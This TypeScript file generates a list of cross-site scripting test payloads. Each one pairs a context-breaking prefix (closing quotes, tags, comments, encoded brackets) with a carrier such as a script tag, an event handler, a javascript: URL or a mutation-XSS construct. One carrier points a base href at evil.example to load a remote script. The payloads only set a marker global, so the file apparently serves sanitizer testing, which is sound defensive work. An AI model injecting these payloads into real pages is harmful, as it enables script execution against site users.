/** What a page that trusts its texts would run, tell or load; each says by its number that it was this one. */
const CARRIERS: readonly ((run: string) => string)[] = [
  (run) => `<script>${run}</script>`,
  (run) => `<ScRiPt\n>${run}</sCrIpT >`,
  (run) => `<img src=x onerror="${run}">`,
  (run) => `<svg/onload=${run}>`,
  (run) => `<svg><script>${run}</script></svg>`,
  (run) => `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  (run) => `<body onload=${run}>`,
  (run) => `<details open ontoggle=${run}>`,
  (run) => `<input autofocus onfocus=${run}>`,
  (run) => `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  (run) => `<iframe src="javascript:parent.${run}"></iframe>`,
  (run) => `<a href="javascript:${run}">a</a>`,
  (run) => `javascript:${run}`,
  (run) => `JaVa\tScRiPt:${run}`,
  (run) => `data:text/html,<script>${run}</script>`,
  (run) => `<video><source onerror=${run}></video>`,
  (run) => `<math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  (run) => `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  (run) => `<template><script>${run}</script></template><img src=x onerror=${run}>`,
  (run) => `<style>@import 'x';</style><link rel=stylesheet href=x onerror=${run}>`,
  (run) => `<object data="javascript:${run}"></object><embed src="javascript:${run}">`,
  (run) => `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  (run) => `<base href="//evil.example/"><script src=x></script>${run}`,
  (run) => `{{constructor.constructor('${run}')()}}\${${run}}`,
  (run) => `<x onclick=${run} tabindex=1 id=x autofocus>`,
]

/** What ends the place that a text was put into. */
const BEFORE: readonly string[] = [
  '',
  '">',
  "'>",
  '</title>',
  '</textarea>',
  '</script>',
  '</style>',
  '-->',
  ']]>',
  '`',
  '"}]',
  '\\u003c/script\\u003e',
  '</noscript>',
  '</select></option>',
  '&quot;&gt;',
  '\u2028',
  '%3E%22',
  "';",
  '*/',
  '</svg>',
]

/** The name of the global that a payload which ran would have left. */
export const RAN = 'ran'

export const PAYLOADS: readonly string[] = BEFORE.flatMap((before, at) =>
  CARRIERS.map((carrier, number) => `${before}${carrier(`${RAN}=${at * CARRIERS.length + number + 1}`)}`),
)
